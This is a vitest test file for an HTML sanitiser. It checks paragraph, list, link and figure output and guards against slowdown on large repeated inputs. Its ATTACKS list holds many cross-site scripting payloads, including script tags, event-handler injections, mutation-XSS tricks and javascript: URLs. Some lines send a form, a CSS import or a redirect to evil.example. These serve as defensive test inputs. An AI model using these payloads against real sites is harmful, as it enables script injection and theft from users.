import { describe, expect, test } from 'vitest'
import { sanitiseHtml } from './sanitise'

describe('plain text', () => {
  test.each([
    ['One line', '<p>One line</p>'],
    ['One\ntwo\n\n\nthree', '<p>One<br />two</p><p>three</p>'],
    ['a < b & "c" > d', '<p>a &lt; b &amp; &quot;c&quot; &gt; d</p>'],
    ['R&D for you & me', '<p>R&amp;D for you &amp; me</p>'],
    [' \n \n', ''],
  ])('%j becomes paragraphs', (text, html) => {
    expect(sanitiseHtml(text)).toBe(html)
  })
})

describe('HTML', () => {
  test.each([
    ['<p>A <strong>big</strong> <em>home</em></p>', '<p>A <strong>big</strong> <em>home</em></p>'],
    ['<div>One</div><div>Two</div>', '<p>One</p><p>Two</p>'],
    ['<p>Prix\u00a0:\n 5\u202f000</p>', '<p>Prix\u00a0: 5\u202f000</p>'],
    ['<div><p>One</p><p> </p><p><br></p></div>', '<p>One</p>'],
    ['One<br>two', '<p>One<br />two</p>'],
    ['<b>Bold</b>\nnext\n\nlast', '<p><b>Bold</b><br />next</p><p>last</p>'],
    ['<h1>Title</h1>text', '<h3>Title</h3><p>text</p>'],
    ['<ul><li>One<li>Two</ul>', '<ul><li>One</li><li>Two</li></ul>'],
    [
      '<ul><li><p>One</p><ul><li>Deep</li></ul></li></ul>',
      '<ul><li>One<ul><li>Deep</li></ul></li></ul>',
    ],
    ['<li>Lost', '<p>Lost</p>'],
    ['caf&eacute; &amp; bar', '<p>café &amp; bar</p>'],
    ['<p style="color:red" class="x" onclick="y()">Plain</p>', '<p>Plain</p>'],
    ['<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', '<p>a b</p><p>c</p>'],
    ['<b>open <i>ends', '<p><b>open <i>ends</i></b></p>'],
    ['<span>kept</span> text', '<p>kept text</p>'],
  ])('%j', (source, html) => {
    expect(sanitiseHtml(source)).toBe(html)
  })

  test.each([
    ['<a href="https://a.example/?b=1&c=2">x</a>', 'https://a.example/?b=1&amp;c=2'],
    ['<a href="mailto:a@b.example" target=_blank>x</a>', 'mailto:a@b.example'],
    ['<a href="tel:+3291234567" rel="opener">x</a>', 'tel:+3291234567'],
  ])('keeps the link %j', (source, href) => {
    expect(sanitiseHtml(source)).toBe(`<p><a href="${href}" rel="noopener">x</a></p>`)
  })

  test.each([
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/nl/login">x</a>',
    '<a name="x">x</a>',
  ])('keeps the text of %j alone', (source) => {
    expect(sanitiseHtml(source)).toBe('<p>x</p>')
  })
})

const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)><p>x</p></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import url(//evil.example)</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script>',
  '<p/onmouseover=alert(1)>hi</p>',
  '<b onfocus=alert(1) autofocus tabindex=1>hi</b>',
  '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)> ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<form action="//evil.example"><input name=q><button>Go</button></form>',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<b>'.repeat(5000),
  '<ul><li>'.repeat(2000),
  '<'.repeat(5000),
  '</p></div></script>'.repeat(500),
]

/** Every tag the writer can make; text has no raw angle brackets, so anything else is an attack. */
const HARMLESS =
  /<\/?(?:p|ul|ol|li|strong|em|b|i|h3|h4)>|<br \/>|<a href="(?:https?:\/\/|mailto:|tel:)[^"<>]*" rel="noopener">|<\/a>/g

/** Repeated to 400 KB they took minutes where time grows with the square of their number. */
const REPEATED = [
  '<br>',
  '<br> ',
  '<p><br>',
  '<p> ',
  '<b>',
  '<b></b>',
  '<b>x',
  '</x>',
  '<b></x>',
  '<ul><li>',
  '<svg>',
  '<form>',
  '<td>',
  '<a href="',
  '<a b c ',
  '<',
  '<!--',
  '&',
  '&a',
  '\u2003',
  '<i>\u00a0</i>',
  '\n \n',
  '\n ',
  'x',
]

test.each(REPEATED)('400 KB of %j are read in one walk', (part) => {
  const text = part.repeat(400_000 / part.length)
  for (const source of [text, `<p>${text}`, `${'<b>'.repeat(300)}${text}`]) {
    expect(sanitiseHtml(source).replace(HARMLESS, '')).not.toMatch(/[<>]/)
  }
})

test('text within hundreds of elements is kept, and what is not meant to be read is not', () => {
  const deep = '<div>'.repeat(1000)
  expect(sanitiseHtml(`${deep}One<script>alert(1)</script><svg><g>2</g></svg>Three`)).toBe(
    '<p>OneThree</p>',
  )
})

describe('a picture', () => {
  const FIGURE = '<figure><img src="file:7" /><figcaption>The <em>garden</em></figcaption></figure>'

  test.each([
    [FIGURE, FIGURE],
    ['<figure>\n<img src="file:7">\n</figure>', '<figure><img src="file:7" /></figure>'],
    ['<img src="file:7" alt=" A "roof" ">', '<figure><img src="file:7" alt="A" /></figure>'],
    ['<p>A<img src="file:7">b</p>', '<p>A</p><figure><img src="file:7" /></figure><p>b</p>'],
    [
      '<ul><li>A<a href="page:1"><img src=file:7></a></ul>',
      '<ul><li>A</li></ul><figure><img src="file:7" /></figure>',
    ],
    [
      '<figure><img src="file:7"><figcaption> </figcaption></figure>',
      '<figure><img src="file:7" /></figure>',
    ],
    [
      '<figure><img src="file:7"><figcaption>A<p>B</p></figcaption></figure>C',
      '<figure><img src="file:7" /><figcaption>A</figcaption></figure><p>B</p><p>C</p>',
    ],
    ['<figure><img src="/a.jpg" onerror="x"><figcaption>A</figcaption></figure>', '<p>A</p>'],
    ['<figure><img src="page:7"></figure>', ''],
    ['<figure><img src="javascript:x"></figure>', ''],
    ['<figcaption>A</figcaption>', '<p>A</p>'],
    [
      '<figure><img src="file:7" onload="x" style="y" srcset="z"></figure>',
      '<figure><img src="file:7" /></figure>',
    ],
  ])('of the library is a figure in an illustrated text: %j', (html, clean) => {
    expect(sanitiseHtml(html, 'illustrated')).toBe(clean)
    expect(sanitiseHtml(clean, 'illustrated')).toBe(clean)
  })

  test.each(['elsewhere', 'own'] as const)('is left out of a text from %s', (from) => {
    expect(sanitiseHtml(`<p>A</p>${FIGURE}`, from)).toBe('<p>A</p><p>The <em>garden</em></p>')
  })
})

describe('an HTML attack', () => {
  test.each(ATTACKS)('leaves harmless tags only: %j', (attack) => {
    const html = sanitiseHtml(attack)
    expect(html.replace(HARMLESS, '')).not.toMatch(/[<>]/)
    expect(sanitiseHtml(html)).toBe(html)
  })

  test.each(ATTACKS)('leaves well-formed HTML: %j', (attack) => {
    const open: string[] = []
    for (const [, slash, tag = ''] of sanitiseHtml(attack).matchAll(/<(\/?)([a-z]+\d?)/g)) {
      if (tag === 'br') continue
      if (slash) expect(open.pop()).toBe(tag)
      else open.push(tag)
    }
    expect(open).toEqual([])
  })
})
